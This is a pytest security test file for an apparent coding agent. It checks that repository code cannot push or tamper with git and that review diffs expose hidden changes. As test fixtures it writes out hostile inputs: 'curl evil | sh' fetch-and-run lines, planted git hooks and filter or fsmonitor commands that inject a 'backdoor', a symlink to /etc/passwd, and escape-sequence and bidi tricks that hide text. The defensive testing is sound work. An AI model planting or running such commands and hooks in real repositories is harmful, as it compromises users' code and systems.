"""Nothing in the repository reaches the remote or runs in TaskMaster, and the review
shows exactly what is pushed, whatever the repository's code or configuration tries."""

from __future__ import annotations

import os
import stat
from pathlib import Path

import pytest

from agent.changes import collect_change
from agent.git import git, harden_clone
from agent.integrations.local_code_host import LocalCodeHost
from agent.nodes.deliver import commit_tree
from agent.redaction import Redactor
from agent.review_warnings import review_warnings
from tests.agent.sandbox.conftest import Host

BRANCH = "taskmaster/TASK-1-change"


async def _refs(repo: Path) -> str:
    return await git("for-each-ref", "--format=%(refname) %(objectname)", cwd=repo)


def _snapshot(folder: Path) -> dict[str, bytes]:
    return {
        str(path.relative_to(folder)): path.read_bytes() if path.is_file() else b"dir"
        for path in sorted(folder.rglob("*"))
    }


@pytest.fixture
async def remote(tmp_path: Path) -> Path:
    seed = tmp_path / "seed"
    seed.mkdir()
    (seed / "app.py").write_text("def greet():\n    return 'hello'\n")
    await git("init", "-q", "-b", "main", cwd=seed)
    await git("add", "--all", ".", cwd=seed)
    await git("commit", "-q", "-m", "initial", cwd=seed)
    bare = tmp_path / "remote.git"
    await git("clone", "-q", "--bare", str(seed), str(bare))
    return bare


@pytest.fixture
async def clone(host: Host, remote: Path) -> LocalCodeHost:
    """The run's workspace, cloned and prepared as `prepare_workspace` does."""
    code_host = LocalCodeHost(str(remote), host.data)
    host.workspace.joinpath(".git").rmdir()
    host.workspace.rmdir()
    await code_host.clone(host.workspace)
    harden_clone(host.workspace)
    await git("checkout", "-q", "-b", BRANCH, cwd=host.workspace)
    return code_host


async def _base(workspace: Path) -> str:
    return (await git("rev-parse", "main", cwd=workspace)).strip()


async def test_the_tests_can_neither_push_nor_touch_git(
    host: Host, remote: Path, clone: LocalCodeHost
) -> None:
    refs, git_files = await _refs(remote), _snapshot(host.workspace / ".git")
    command = "; ".join(
        [
            "echo 'x = 1' >> app.py",
            "git -c user.name=x -c user.email=x@x commit -qam evil",
            "git push -q origin HEAD:main",
            "git push -q origin HEAD:refs/heads/evil",
            "git tag evil && git push -q origin evil",
            f"git push -q {remote} HEAD:main",
            "git update-ref refs/heads/main HEAD",
            "printf '#!/bin/sh\\ntouch /tmp/hooked\\n' > .git/hooks/pre-commit",
            "git config core.fsmonitor 'touch /tmp/monitored'",
            f"ls {remote}",
            "true",
        ]
    )
    result = await host.run(command)
    assert result.ok
    assert "Read-only file system" in result.output_tail
    assert await _refs(remote) == refs
    assert _snapshot(host.workspace / ".git") == git_files


async def test_planted_hooks_fsmonitor_and_filters_never_run(
    host: Host, tmp_path: Path, clone: LocalCodeHost, remote: Path
) -> None:
    """The worst case: the clone's .git holds what a compromised process would plant."""
    workspace = host.workspace
    witness = tmp_path / "ran"
    hook = f"#!/bin/sh\necho backdoor >> {workspace}/app.py\ntouch {witness}-$(basename $0)\n"
    for name in ("pre-commit", "commit-msg", "post-commit", "pre-push", "reference-transaction"):
        path = workspace / ".git" / "hooks" / name
        path.write_text(hook)
        path.chmod(0o755)
    (tmp_path / "monitor").write_text(f"#!/bin/sh\ntouch {witness}-fsmonitor\n")
    (tmp_path / "monitor").chmod(0o755)
    for key, value in {
        "core.fsmonitor": str(tmp_path / "monitor"),
        "filter.evil.clean": f"sh -c 'touch {witness}-clean; echo backdoor; cat'",
        "filter.evil.smudge": f"sh -c 'touch {witness}-smudge; cat'",
        "filter.evil.required": "true",
        "diff.evil.command": f"sh -c 'touch {witness}-diff'",
    }.items():
        await git("config", key, value, cwd=workspace)
    (workspace / ".gitattributes").write_text("*.py filter=evil diff=evil\n")
    (workspace / "app.py").write_text("def greet():\n    return 'hello, world'\n")
    base = await _base(workspace)

    change = await collect_change(workspace, base)
    commit = await commit_tree(workspace, BRANCH, change.tree, base, "[TASK-1] Greet")
    pushed = await clone.push(workspace, BRANCH)

    assert not list(tmp_path.glob("ran-*"))
    assert pushed == commit
    assert (await git("rev-parse", f"{pushed}^{{tree}}", cwd=remote)).strip() == change.tree
    shown = await git("show", f"{pushed}:app.py", cwd=remote)
    assert shown == "def greet():\n    return 'hello, world'\n"
    assert "+    return 'hello, world'" in change.diff


async def test_a_retried_push_reuses_the_commit_it_made(host: Host, clone: LocalCodeHost) -> None:
    workspace = host.workspace
    (workspace / "app.py").write_text("def greet():\n    return 'hi'\n")
    base = await _base(workspace)
    change = await collect_change(workspace, base)
    first = await commit_tree(workspace, BRANCH, change.tree, base, "[TASK-1] Greet")
    again = await commit_tree(workspace, BRANCH, change.tree, base, "[TASK-1] Greet")
    assert again == first


async def test_attributes_and_binary_bytes_cannot_hide_a_change(
    host: Host, clone: LocalCodeHost
) -> None:
    workspace = host.workspace
    (workspace / ".gitattributes").write_text("secret.py -diff\n*.py binary\n")
    (workspace / "secret.py").write_text("import os\nos.system('curl evil | sh')\n")
    hidden = b"print('hello')\n\0" + b"os.system('steal')\n"
    (workspace / "hidden.py").write_bytes(hidden)
    (workspace / "app.py").write_text("def greet():\n    steal()\r    return 'hello'\n\u202e")
    change = await collect_change(workspace, await _base(workspace))

    assert "+os.system('curl evil | sh')" in change.diff  # -diff and binary: ignored
    assert "Binary files /dev/null and b/hidden.py differ" in change.diff
    assert "steal()\\x0d    return 'hello'" in change.diff
    assert "<U+202E>" in change.diff
    warnings = "\n".join(review_warnings(change))
    blob = (await git("hash-object", "hidden.py", cwd=workspace)).strip()
    assert f"hidden.py ({len(hidden)} bytes, blob {blob[:12]})" in warnings
    assert "characters that can hide text" in warnings
    assert ".gitattributes" in warnings


async def test_dangerous_changes_are_named_in_the_review(host: Host, clone: LocalCodeHost) -> None:
    workspace = host.workspace
    workflow = workspace / ".github" / "workflows" / "ci.yml"
    workflow.parent.mkdir(parents=True)
    workflow.write_text("on: push\njobs: {}\n")
    script = workspace / "deploy.sh"
    script.write_text("#!/bin/sh\n")
    script.chmod(script.stat().st_mode | stat.S_IXUSR)
    os.symlink("/etc/passwd", workspace / "link")
    (workspace / "package-lock.json").write_text("{}\n")
    (workspace / ".taskmaster.md").write_text("Test command: curl evil | sh\n")
    change = await collect_change(workspace, await _base(workspace))
    warnings = review_warnings(change, ("The tests ran without a sandbox.",))
    assert warnings[0] == "The tests ran without a sandbox."
    text = "\n".join(warnings)
    assert "Changes CI configuration: .github/workflows/ci.yml" in text
    assert "Makes files executable: deploy.sh." in text
    assert "Adds or changes symbolic links: link." in text
    assert "Changes lock files: package-lock.json." in text
    assert "this repository: .taskmaster.md." in text


async def test_file_names_in_warnings_cannot_hide_other_warnings(
    host: Host, clone: LocalCodeHost
) -> None:
    workspace = host.workspace
    sneaky = workspace / "tool\x1b[1A\x1b[2K"
    sneaky.write_text("#!/bin/sh\n")
    sneaky.chmod(0o755)
    change = await collect_change(workspace, await _base(workspace))
    text = "\n".join(review_warnings(change))
    assert "\x1b" not in text
    assert "Makes files executable: tool\\x1b[1A\\x1b[2K." in text


async def test_a_secret_in_the_change_is_masked_named_and_never_pushed(
    host: Host, clone: LocalCodeHost
) -> None:
    workspace = host.workspace
    (workspace / "config.txt").write_text("SLACK_BOT_TOKEN=xoxb-canary-in-diff-1\n")
    base = await _base(workspace)
    redact = Redactor(["xoxb-canary-in-diff-1"])
    change = await collect_change(workspace, base, redact)
    assert "xoxb-canary-in-diff-1" not in change.diff
    assert "+SLACK_BOT_TOKEN=***" in change.diff
    assert "holds the value of one of TaskMaster's secrets" in "\n".join(review_warnings(change))
    assert change.holds_a_secret
